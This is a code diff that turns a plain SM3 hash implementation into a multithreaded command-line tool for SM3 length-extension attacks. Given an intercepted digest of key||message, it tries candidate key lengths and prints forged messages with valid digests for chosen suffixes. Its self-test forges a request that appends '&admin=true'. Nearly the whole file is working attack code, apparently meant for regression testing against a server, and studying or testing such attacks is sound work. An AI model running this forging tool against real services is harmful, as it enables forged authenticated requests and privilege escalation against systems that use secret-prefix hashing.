@@ -1,254 +1,257 @@
-#include<stdio.h>
-#include<stdint.h>
+#include <stdio.h>
+#include <stdint.h>
+#include <stdlib.h>
 #include <string.h>
- 
-static const uint32_t IV[8] = {
-        0x7380166f, 0x4914b2b9, 0x172442d7, 0xda8a0600,
-        0xa96f30bc, 0x163138aa, 0xe38dee4d, 0xb0fb0e4e
-};
- 
-uint32_t Tj(uint8_t j) {
-    if (j < 16)
-        return 0x79cc4519;
-    return 0x7a879d8a;
-}
- 
-uint32_t FF(uint32_t X, uint32_t Y, uint32_t Z, uint8_t j) {
-    if (j < 16)
-        return X ^ Y ^ Z;
-    return (X & Y) | (X & Z) | (Y & Z);
-}
- 
-uint32_t GG(uint32_t X, uint32_t Y, uint32_t Z, uint8_t j) {
-    if (j < 16)
-        return X ^ Y ^ Z;
-    return (X & Y) | ((~X) & Z);
-}
- 
-uint32_t RL(uint32_t a, uint8_t k) {
-    k = k % 32;
-    return ((a << k) & 0xFFFFFFFF) | ((a & 0xFFFFFFFF) >> (32 - k));
-}
- 
-uint32_t P0(uint32_t X) {
-    return X ^ (RL(X, 9)) ^ (RL(X, 17));
-}
- 
-uint32_t P1(uint32_t X) {
-    return X ^ (RL(X, 15)) ^ (RL(X, 23));
-}
- 
-void sm3_one_block(uint32_t *hash, const uint32_t *block) {
-    uint32_t Wj0[68];
-    uint32_t Wj1[64];
-    uint32_t A = hash[0], B = hash[1], C = hash[2], D = hash[3];
-    uint32_t E = hash[4], F = hash[5], G = hash[6], H = hash[7];
-    uint32_t SS1, SS2, TT1, TT2;
-    uint8_t i, j;
- 
-    for (i = 0; i < 16; i++) {
-        Wj0[i] = block[i];
-    }
-    for (i = 16; i < 68; i++) {
-        Wj0[i] = P1(Wj0[i - 16] ^ Wj0[i - 9] ^ RL(Wj0[i - 3], 15)) ^ RL(Wj0[i - 13], 7) ^ Wj0[i - 6];
-    }
-    for (i = 0; i < 64; i++) {
-        Wj1[i] = Wj0[i] ^ Wj0[i + 4];
-    }
- 
-    for (j = 0; j < 64; j++) {
-        SS1 = RL((RL(A, 12) + E + RL(Tj(j), j)) & 0xFFFFFFFF, 7);
-        SS2 = SS1 ^ (RL(A, 12));
-        TT1 = (FF(A, B, C, j) + D + SS2 + Wj1[j]) & 0xFFFFFFFF;
-        TT2 = (GG(E, F, G, j) + H + SS1 + Wj0[j]) & 0xFFFFFFFF;
-        D = C;
-        C = RL(B, 9);
-        B = A;
-        A = TT1;
-        H = G;
-        G = RL(F, 19);
-        F = E;
-        E = P0(TT2);
+#include <string>
+#include <vector>
+#include <thread>
+#include <atomic>
+#include <mutex>
+#include <condition_variable>
+#include "sm3.h"
+
+// SM3 长度扩展攻击批量工具
+// 已知 h = SM3(key || m) 和 m，但不知道 key 的长度，对每个候选长度和每个后缀，
+// 伪造 SM3(key || m || padding || suffix)，结果按行输出，供回归测试逐条发给服务端验证。
+//
+// 用法: ./sm3_lea <摘要hex> <原消息> <后缀> [后缀...] [-k 最小-最大] [-t 线程数]
+// 输出（制表符分隔）: 候选key长度  后缀序号  伪造消息hex(m||padding||后缀)  伪造摘要hex
+// 不带参数时运行自检演示。
+
+// 生成 SM3 填充：msg_len 为被哈希的总字节数（key + 原始消息），
+// 输出 0x80 || 0x00... || 64 比特大端长度，返回填充长度
+uint32_t sm3_padding(uint64_t msg_len, uint8_t *out) {
+    uint32_t pad_len = 1;
+    out[0] = 0x80;
+    // 填充0，直到倒数8字节
+    while (((msg_len + pad_len) % 64) != 56) {
+        out[pad_len++] = 0x00;
     }
- 
-    hash[0] = (A ^ hash[0]);
-    hash[1] = (B ^ hash[1]);
-    hash[2] = (C ^ hash[2]);
-    hash[3] = (D ^ hash[3]);
-    hash[4] = (E ^ hash[4]);
-    hash[5] = (F ^ hash[5]);
-    hash[6] = (G ^ hash[6]);
-    hash[7] = (H ^ hash[7]);
+    // 填充长度（大端）
+    sm3_store_be64(out + pad_len, msg_len << 3);
+    return pad_len + 8;
 }
- 
-void sm3_get_hash(uint32_t *src, uint32_t *hash, uint32_t len) {
-    uint8_t last_block[64] = {0};
-    uint32_t i = 0;
-    for (i = 0; i < 8; i++) {
-        hash[i] = IV[i];
-    }
-    for (i = 0; i < len; i = i + 64) {
-        if (len - i < 64)break;
-        sm3_one_block(hash, src + i);
-    }
-    uint32_t last_block_len = len - i;
-    uint32_t word_len = ((last_block_len + 3) >> 2) << 2;
-    uint32_t last_word_len = last_block_len & 3;
-    for (int j = 0; j < word_len; j++)
-        last_block[j] = *((uint8_t *) src + i + j);
-    switch (last_word_len) {
-        case 0:
-            last_block[word_len + 3] = 0x80;
-            break;
-        case 1:
-            last_block[word_len - 4] = 0;
-            last_block[word_len - 3] = 0;
-            last_block[word_len - 2] = 0x80;
-            break;
-        case 2:
-            last_block[word_len - 4] = 0;
-            last_block[word_len - 3] = 0x80;
-            break;
-        case 3:
-            last_block[word_len - 4] = 0x80;
-            break;
-        default:
-            break;
-    }
-    if (last_block_len < 56) {
-        uint32_t bit_len = len << 3;
-        last_block[63] = (bit_len >> 24) & 0xff;
-        last_block[62] = (bit_len >> 16) & 0xff;
-        last_block[61] = (bit_len >> 8) & 0xff;
-        last_block[60] = (bit_len) & 0xff;
-        sm3_one_block(hash, (uint32_t *) last_block);
-    } else {
-        sm3_one_block(hash, (uint32_t *) last_block);
-        unsigned char lblock[64] = {0};
-        uint32_t bit_len = len << 3;
-        lblock[63] = (bit_len >> 24) & 0xff;
-        lblock[62] = (bit_len >> 16) & 0xff;
-        lblock[61] = (bit_len >> 8) & 0xff;
-        lblock[60] = (bit_len) & 0xff;
-        sm3_one_block(hash, (uint32_t *) lblock);
-    }
+
+// 以截获的摘要作为链接变量，继续处理 new_data
+// prefix_len 为 key || m || padding 的总长度，必为 64 的倍数
+void sm3_length_extension(const uint32_t *iv, uint64_t prefix_len, const uint8_t *new_data, size_t new_data_len,
+                          uint8_t *out_hash) {
+    sm3_ctx ctx;
+    sm3_init_from(&ctx, iv, prefix_len / SM3_BLOCK_SIZE);
+    sm3_update(&ctx, new_data, new_data_len);
+    sm3_final(&ctx, out_hash);
 }
-void test_case1() {
-    uint32_t src[1] = {0x61626300};
-    uint32_t hash[8];
-    uint32_t len = 3;
-    sm3_get_hash(src, hash, len);
- 
-    printf("hash(hex): ");
-    for (int i = 0; i < 8; i++) {
-        printf("%08x ", hash[i]);
+
+static const char HEX_DIGITS[] = "0123456789abcdef";
+
+static void append_hex(std::string &s, const uint8_t *data, size_t len) {
+    for (size_t i = 0; i < len; i++) {
+        s.push_back(HEX_DIGITS[data[i] >> 4]);
+        s.push_back(HEX_DIGITS[data[i] & 0xf]);
     }
-    printf("\n");
 }
- 
-void test_case2() {
-    uint32_t src[16] = {0x61626364, 0x61626364, 0x61626364, 0x61626364, 0x61626364, 0x61626364, 0x61626364, 0x61626364,
-                        0x61626364, 0x61626364, 0x61626364, 0x61626364, 0x61626364, 0x61626364, 0x61626364, 0x61626364};
-    uint32_t hash[8];
-    uint32_t len = 64;
-    sm3_get_hash(src, hash, len);
- 
-    printf("hash(hex): ");
-    for (int i = 0; i < 8; i++) {
-        printf("%08x ", hash[i]);
+
+static int parse_digest(const char *hex, uint32_t *iv) {
+    uint8_t bytes[SM3_DIGEST_SIZE];
+    if (strlen(hex) != 2 * SM3_DIGEST_SIZE) return -1;
+    for (int i = 0; i < SM3_DIGEST_SIZE; i++) {
+        unsigned int v;
+        if (sscanf(hex + 2 * i, "%2x", &v) != 1) return -1;
+        bytes[i] = (uint8_t) v;
     }
-    printf("\n");
+    for (int i = 0; i < 8; i++) iv[i] = sm3_load_be32(bytes + 4 * i);
+    return 0;
 }
-// 生成SM3填充后的消息
-void sm3_padding(const uint8_t *msg, uint32_t msg_len, uint8_t *out, uint32_t *out_len, uint64_t total_bit_len) {
-    // msg_len: 原始消息长度（字节）
-    // total_bit_len: 总消息长度（比特），即key+原始消息+扩展数据的总长度
-    memcpy(out, msg, msg_len);
-    out[msg_len] = 0x80;
-    uint32_t pad_len = msg_len + 1;
-    // 填充0，直到倒数8字节
-    while ((pad_len % 64) != 56) {
-        out[pad_len++] = 0x00;
+
+struct ForgeJob {
+    uint32_t iv[8];                     // 截获的摘要，所有线程共享只读
+    std::string message;
+    std::vector<std::string> suffixes;
+    uint32_t key_min, key_max;
+};
+
+// 为一个候选 key 长度生成所有后缀的伪造结果
+static void forge_one_key_len(const ForgeJob &job, uint32_t key_len, std::string &out) {
+    uint8_t padding[SM3_BLOCK_SIZE + 8];
+    uint8_t forged[SM3_DIGEST_SIZE];
+    uint64_t msg_len = (uint64_t) key_len + job.message.size();
+    uint32_t padding_len = sm3_padding(msg_len, padding);
+
+    for (size_t s = 0; s < job.suffixes.size(); s++) {
+        const std::string &suffix = job.suffixes[s];
+        sm3_length_extension(job.iv, msg_len + padding_len, (const uint8_t *) suffix.data(), suffix.size(), forged);
+
+        char head[32];
+        snprintf(head, sizeof(head), "%u\t%zu\t", key_len, s);
+        out += head;
+        append_hex(out, (const uint8_t *) job.message.data(), job.message.size());
+        append_hex(out, padding, padding_len);
+        append_hex(out, (const uint8_t *) suffix.data(), suffix.size());
+        out.push_back('\t');
+        append_hex(out, forged, SM3_DIGEST_SIZE);
+        out.push_back('\n');
     }
-    // 填充长度（大端）
-    for (int i = 0; i < 8; i++) {
-        out[pad_len + 7 - i] = (total_bit_len >> (i * 8)) & 0xFF;
+}
+
+// 按批并行：工作线程只创建一次，通过原子计数器领取批次，每批 64 个候选长度。
+// 主线程按批次顺序输出，边算边输出；最多有 2 * threads 个批次的结果在内存中等待输出
+static void forge_all(const ForgeJob &job, unsigned int threads, FILE *out) {
+    const uint32_t batch = 64;
+    const uint64_t batch_count = ((uint64_t) job.key_max - job.key_min) / batch + 1;
+    const uint64_t window = 2 * (uint64_t) threads;
+    struct Slot {
+        std::string text;
+        bool done = false;
+    };
+    std::vector<Slot> slots(window);
+    std::atomic<uint64_t> next(0);
+    uint64_t written = 0;               // 已输出的批次数，受 mutex 保护
+    std::mutex mutex;
+    std::condition_variable cv;
+
+    auto worker = [&]() {
+        uint64_t b;
+        while ((b = next.fetch_add(1)) < batch_count) {
+            {
+                // 等输出线程腾出该批次的槽位
+                std::unique_lock<std::mutex> lock(mutex);
+                cv.wait(lock, [&] { return b < written + window; });
+            }
+            Slot &slot = slots[b % window];
+            slot.text.clear();
+            // base 用 64 位：key_max 接近 UINT32_MAX 时不会回绕
+            uint64_t base = job.key_min + b * batch;
+            uint64_t last = base + batch - 1 < job.key_max ? base + batch - 1 : job.key_max;
+            for (uint64_t key_len = base; key_len <= last; key_len++) {
+                forge_one_key_len(job, (uint32_t) key_len, slot.text);
+            }
+            {
+                std::lock_guard<std::mutex> lock(mutex);
+                slot.done = true;
+            }
+            cv.notify_all();
+        }
+    };
+    std::vector<std::thread> pool;
+    for (unsigned int t = 0; t < threads; t++) pool.emplace_back(worker);
+
+    for (uint64_t b = 0; b < batch_count; b++) {
+        Slot &slot = slots[b % window];
+        {
+            std::unique_lock<std::mutex> lock(mutex);
+            cv.wait(lock, [&] { return slot.done; });
+        }
+        fwrite(slot.text.data(), 1, slot.text.size(), out);
+        fflush(out);
+        {
+            std::lock_guard<std::mutex> lock(mutex);
+            slot.done = false;
+            written++;
+        }
+        cv.notify_all();
     }
-    *out_len = pad_len + 8;
+    for (auto &th : pool) th.join();
 }
 
-// 允许自定义IV和总长度的SM3哈希（只处理一块new_data，适合演示攻击）
-void sm3_length_extension(const uint32_t *iv, const uint8_t *new_data, uint32_t new_data_len, uint64_t total_bit_len, uint32_t *out_hash) {
-    // 只处理new_data，IV用攻击者伪造的
-    uint8_t buf[128] = {0};
-    uint32_t buf_len = 0;
-    sm3_padding(new_data, new_data_len, buf, &buf_len, total_bit_len);
-    // 只处理一块
-    for (int i = 0; i < 8; i++) out_hash[i] = iv[i];
-    sm3_one_block(out_hash, (uint32_t*)buf);
-    // 如果buf_len > 64，还要再处理一块
-    if (buf_len > 64) {
-        sm3_one_block(out_hash, (uint32_t*)(buf + 64));
+// 解析 "最小-最大"：两端都只能是十进制数字，拒绝 "-1"、" 5" 这类 strtoull 会接受的写法
+static int parse_key_range(const char *s, uint32_t *key_min, uint32_t *key_max) {
+    const char *dash = strchr(s, '-');
+    size_t lo_len = dash ? (size_t) (dash - s) : 0;
+    if (lo_len == 0 || strspn(s, "0123456789") != lo_len || dash[1] == '\0' ||
+        strspn(dash + 1, "0123456789") != strlen(dash + 1)) {
+        return -1;
     }
+    unsigned long long lo = strtoull(s, NULL, 10);
+    unsigned long long hi = strtoull(dash + 1, NULL, 10);
+    if (lo > hi || hi > UINT32_MAX) return -1;
+    *key_min = (uint32_t) lo;
+    *key_max = (uint32_t) hi;
+    return 0;
 }
- 
-// int main() {
-//     test_case1();
-//     test_case2();
-//     return 0;
-// }
-int main() {
-    // 假设key长度为16字节，内容未知
-    int key_len = 16;
-    // 原始消息
-    const char *m = "abc";
-    int m_len = strlen(m);
-
-    // 攻击者已知的hash(key || m)
-    // 这里我们模拟一下，假设key全为0
-    uint8_t key[16] = {0};
-    uint8_t full_msg[128] = {0};
-    memcpy(full_msg, key, key_len);
-    memcpy(full_msg + key_len, m, m_len);
-
-    uint32_t hash[8];
-    sm3_get_hash((uint32_t*)full_msg, hash, key_len + m_len);
+
+// 自检：用随机 key 计算 SM3(key || m)，按真实长度伪造，
+// 再用真实 key 直接计算 key || m || padding || 后缀，两者应一致
+static int self_test() {
+    const uint32_t key_len = 16;
+    uint8_t key[key_len];
+    for (uint32_t i = 0; i < key_len; i++) key[i] = (uint8_t) rand();
+
+    ForgeJob job;
+    job.message = "abc";
+    job.suffixes = {"123456", "&admin=true"};
+
+    uint8_t digest[SM3_DIGEST_SIZE];
+    sm3_ctx ctx;
+    sm3_init(&ctx);
+    sm3_update(&ctx, key, key_len);
+    sm3_update(&ctx, (const uint8_t *) job.message.data(), job.message.size());
+    sm3_final(&ctx, digest);
+    for (int i = 0; i < 8; i++) job.iv[i] = sm3_load_be32(digest + 4 * i);
 
     printf("原始hash(key||m): ");
-    for (int i = 0; i < 8; i++) printf("%08x ", hash[i]);
+    for (int i = 0; i < SM3_DIGEST_SIZE; i++) printf("%02x", digest[i]);
     printf("\n");
 
-    // 攻击者想扩展的新数据
-    const char *new_data = "123456";
-    int new_data_len = strlen(new_data);
+    int ok = 1;
+    for (size_t s = 0; s < job.suffixes.size(); s++) {
+        // 直接计算 key || m || padding || 后缀
+        uint8_t padding[SM3_BLOCK_SIZE + 8];
+        uint32_t padding_len = sm3_padding(key_len + job.message.size(), padding);
+        uint8_t real[SM3_DIGEST_SIZE];
+        sm3_init(&ctx);
+        sm3_update(&ctx, key, key_len);
+        sm3_update(&ctx, (const uint8_t *) job.message.data(), job.message.size());
+        sm3_update(&ctx, padding, padding_len);
+        sm3_update(&ctx, (const uint8_t *) job.suffixes[s].data(), job.suffixes[s].size());
+        sm3_final(&ctx, real);
 
-    // 1. 计算key||m的padding
-    uint8_t padding[128] = {0};
-    uint32_t padding_len = 0;
-    sm3_padding(NULL, key_len + m_len, padding, &padding_len, (key_len + m_len) * 8);
+        uint8_t forged[SM3_DIGEST_SIZE];
+        sm3_length_extension(job.iv, key_len + job.message.size() + padding_len,
+                             (const uint8_t *) job.suffixes[s].data(), job.suffixes[s].size(), forged);
+        printf("后缀 \"%s\" 伪造hash: ", job.suffixes[s].c_str());
+        for (int i = 0; i < SM3_DIGEST_SIZE; i++) printf("%02x", forged[i]);
+        printf("\n后缀 \"%s\" 真实hash: ", job.suffixes[s].c_str());
+        for (int i = 0; i < SM3_DIGEST_SIZE; i++) printf("%02x", real[i]);
+        printf("\n");
+        ok &= memcmp(forged, real, SM3_DIGEST_SIZE) == 0;
+    }
 
-    // 2. 构造扩展后的消息：m || padding || new_data
-    // 3. 用hash作为IV，处理new_data，消息总长度=key_len+m_len+padding_len+new_data_len
-    uint64_t total_bit_len = (key_len + m_len + padding_len + new_data_len) * 8;
-    uint32_t forged_hash[8];
-    sm3_length_extension(hash, (const uint8_t*)new_data, new_data_len, total_bit_len, forged_hash);
+    printf("自检%s\n", ok ? "通过" : "失败");
+    return ok ? 0 : 1;
+}
 
-    printf("扩展攻击后的hash(key||m||padding||new_data): ");
-    for (int i = 0; i < 8; i++) printf("%08x ", forged_hash[i]);
-    printf("\n");
+int main(int argc, char *argv[]) {
+    if (argc == 1) {
+        return self_test();
+    }
 
-    // 验证：直接计算key||m||padding||new_data的hash，结果应一致
-    uint8_t real_msg[256] = {0};
-    memcpy(real_msg, key, key_len);
-    memcpy(real_msg + key_len, m, m_len);
-    memcpy(real_msg + key_len + m_len, padding, padding_len);
-    memcpy(real_msg + key_len + m_len + padding_len, new_data, new_data_len);
-    uint32_t real_hash[8];
-    sm3_get_hash((uint32_t*)real_msg, real_hash, key_len + m_len + padding_len + new_data_len);
-
-    printf("真实hash(key||m||padding||new_data): ");
-    for (int i = 0; i < 8; i++) printf("%08x ", real_hash[i]);
-    printf("\n");
+    ForgeJob job;
+    job.key_min = 0;
+    job.key_max = 1024;
+    unsigned int threads = std::thread::hardware_concurrency();
+    std::vector<const char *> positional;
+    for (int i = 1; i < argc; i++) {
+        if (strcmp(argv[i], "-k") == 0 && i + 1 < argc) {
+            if (parse_key_range(argv[++i], &job.key_min, &job.key_max) != 0) {
+                fprintf(stderr, "无效的key长度范围: %s\n", argv[i]);
+                return 1;
+            }
+        } else if (strcmp(argv[i], "-t") == 0 && i + 1 < argc) {
+            threads = (unsigned int) strtoul(argv[++i], NULL, 10);
+        } else {
+            positional.push_back(argv[i]);
+        }
+    }
+    if (threads == 0) threads = 1;
+    if (positional.size() < 3 || parse_digest(positional[0], job.iv) != 0) {
+        fprintf(stderr, "用法: %s <摘要hex> <原消息> <后缀> [后缀...] [-k 最小-最大] [-t 线程数]\n", argv[0]);
+        return 1;
+    }
+    job.message = positional[1];
+    for (size_t i = 2; i < positional.size(); i++) {
+        job.suffixes.push_back(positional[i]);
+    }
 
+    forge_all(job, threads, stdout);
     return 0;
 }